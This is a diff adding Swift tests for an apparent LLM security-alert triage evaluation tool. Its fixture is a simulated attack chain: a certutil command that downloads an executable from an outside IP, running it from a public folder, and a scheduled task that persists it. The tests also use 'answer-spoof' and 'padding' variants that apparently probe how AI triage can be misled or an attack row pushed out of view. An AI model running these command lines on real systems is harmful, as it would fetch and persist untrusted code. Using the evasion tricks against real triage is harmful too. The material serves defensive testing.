@@ -133,6 +133,53 @@ import TriageEvalStore
         let fromConfig = try await CLI.run(["run"], in: directory)
         #expect(fromConfig.status == 2)
         #expect(fromConfig.stderr.split(separator: "\n").count == 1, "\(fromConfig.stderr)")
-        #expect(fromConfig.stderr.contains(#"triage-eval.yaml: variants[1]: unknown transform "nope""#), "\(fromConfig.stderr)")
+        #expect(fromConfig.stderr.contains(#"triage-eval.yaml:"#) && fromConfig.stderr.contains(#": variants[1]: unknown transform "nope""#), "\(fromConfig.stderr)")
+    }
+
+    /// One host's three open alerts (three distinct rules), as the host triage rule reads them.
+    static let chainCase = #"""
+        - id: chain-01
+          label: TP
+          scenario: chain
+          index: .alerts-security.alerts-default
+          documents:
+            - {"@timestamp": "2026-03-02T09:00:00.000Z", event.kind: signal, kibana.alert.workflow_status: open, kibana.alert.rule.name: "Suspicious CertUtil Commands", kibana.alert.rule.type: eql, kibana.alert.risk_score: 73, host: {id: h-1, name: WS-01}, user: {name: jdoe}, process: {executable: 'C:\Windows\System32\certutil.exe', command_line: 'certutil.exe -urlcache -f http://203.0.113.7/a.exe C:\Users\Public\a.exe'}}
+            - {"@timestamp": "2026-03-02T09:01:00.000Z", event.kind: signal, kibana.alert.workflow_status: open, kibana.alert.rule.name: "Execution from Unusual Directory", kibana.alert.rule.type: eql, kibana.alert.risk_score: 47, host: {id: h-1, name: WS-01}, user: {name: jdoe}, process: {executable: 'C:\Users\Public\a.exe', command_line: 'C:\Users\Public\a.exe -q'}}
+            - {"@timestamp": "2026-03-02T09:02:00.000Z", event.kind: signal, kibana.alert.workflow_status: open, kibana.alert.rule.name: "Scheduled Task Created", kibana.alert.rule.type: eql, kibana.alert.risk_score: 47, host: {id: h-1, name: WS-01}, user: {name: jdoe}, process: {executable: 'C:\Windows\System32\schtasks.exe', command_line: 'schtasks /create /tn upd /tr C:\Users\Public\a.exe /sc minute'}}
+        """#
+
+    @Test func aRuleRunsItsOwnPipelineOnVariantsOfDocuments() async throws {
+        let directory = try CLI.workspace()
+        let rule = try CLI.fixture("rules/current/multiple_alerts_llm_attack_chain_triage_by_host.toml").path
+        let imported = try await CLI.run(["prompts", "import-rule", rule, "--id", "host-rule"], in: directory)
+        #expect(imported.status == 0, "\(imported.stderr)")
+        try Self.chainCase.write(to: directory.appendingPathComponent("cases/chain.yaml"), atomically: true, encoding: .utf8)
+        let selection = ["--prompt", "host-rule@v1", "--model", "heuristic", "--case", "chain-01", "--variants", "answer-spoof,padding"]
+
+        // 1 base row; answer-spoof 2 rows; padding 1 (the rule slices no values, so its only variant is the row cap:
+        // 10 padding hosts × 3 routine alerts first, 10 rows reach COMPLETION, the attack's row is cut by `limit 10`).
+        let dry = try await CLI.run(["run", "--dry-run"] + selection, in: directory)
+        #expect(dry.status == 0, "\(dry.stderr)")
+        #expect(dry.stdout.contains("variants add 12 of these 13 evaluations (1 without them)"), "\(dry.stdout)")
+        // The rule's economics count the one production case, not its variants.
+        let economics = try #require(dry.stdout.split(separator: "\n").first { $0.hasPrefix("host-rule@v1") })
+        #expect(economics.split(separator: " ", omittingEmptySubsequences: true)[2] == "1", "\(economics)")
+
+        let run = try await CLI.run(["run", "--quiet"] + selection, in: directory)
+        #expect(run.status == 0, "\(run.stderr)")
+        let exported = try await CLI.run(["results", "export", "--run", "1", "--format", "jsonl"], in: directory)
+        let rows = exported.stdout.split(separator: "\n").compactMap { line -> (id: String, label: String)? in
+            guard let object = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any],
+                  let id = object["case_id"] as? String, let label = object["label"] as? String else { return nil }
+            return (id, label)
+        }
+        let attackRow = "[host.id=h-1, host.name=WS-01]"
+        #expect(rows.filter { $0.id.hasSuffix(attackRow) }.map(\.id).sorted() == [
+            "chain-01" + attackRow, "chain-01~answer-spoof~1" + attackRow, "chain-01~answer-spoof~2" + attackRow,
+        ])
+        let padded = rows.filter { $0.id.hasPrefix("chain-01~padding~1[") }
+        #expect(padded.count == 10)
+        #expect(padded.allSatisfy { $0.label == "FP" && $0.id.contains("-pad") })
     }
 }
+
